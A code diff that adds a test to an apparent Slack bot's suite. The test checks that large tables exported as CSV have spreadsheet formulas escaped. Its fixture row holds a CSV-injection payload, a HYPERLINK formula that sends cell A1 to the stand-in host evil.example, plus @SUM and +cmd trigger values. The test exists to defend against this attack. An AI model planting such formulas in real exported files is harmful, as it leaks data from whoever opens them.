@@ -219,3 +219,20 @@ async def test_long_answer_with_a_150_row_table_arrives_complete(bot: BotUnderTe
     assert len(rows) == 151
     assert rows[1] == "1,Company 1,$999"
     assert any("150 rows" in t and table_file.name in t for t in texts)
+
+
+async def test_a_large_table_attached_as_csv_carries_no_spreadsheet_formulas(
+    bot: BotUnderTest,
+) -> None:
+    rows = ["| name | change | link |", "|---|---:|---|"]
+    rows += [f"| row {i} | -{i}.5 | plain |" for i in range(120)]
+    rows += ['| =HYPERLINK("http://evil.example/?d="&A1,"click") | @SUM(A1:A9) | +cmd |']
+    bot.openai.model.enqueue(ScriptedTurn(text="\n".join(rows) + "\n"))
+    sent = await bot.mention("the whole table")
+    assert (await bot.finished(sent.ts)).status == "done"
+    [table_file] = [f for f in bot.slack.uploaded_files if f.name.endswith(".csv")]
+    lines = table_file.content.decode().splitlines()
+    assert lines[1] == "row 0,-0.5,plain"  # negative numbers stay numbers
+    assert (
+        lines[-1] == '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",\'@SUM(A1:A9),\'+cmd'
+    )
